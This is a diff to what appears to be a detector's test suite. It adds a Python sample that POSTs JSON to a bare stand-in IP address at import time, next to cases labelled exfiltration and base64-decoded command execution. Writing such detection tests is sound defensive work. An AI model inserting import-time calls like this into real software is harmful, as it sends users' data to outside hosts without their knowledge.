@@ -319,6 +319,15 @@ POSITIVES += [
         {("WC-CODE-EXFILTRATION", H)},
     ),
     Case(
+        "request helper called at import with a bare address",
+        "import json, urllib.request\n"
+        "def send(url, data):\n"
+        "    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n"
+        "    return urllib.request.urlopen(req).read()\n"
+        "send('http://203.0.113.77:8080/submit', {'a': 1})\n",
+        {("WC-CODE-IMPORT-NETWORK", H)},
+    ),
+    Case(
         "command decoded by a helper",
         "import base64, subprocess\n"
         "def decode_str(text):\n"
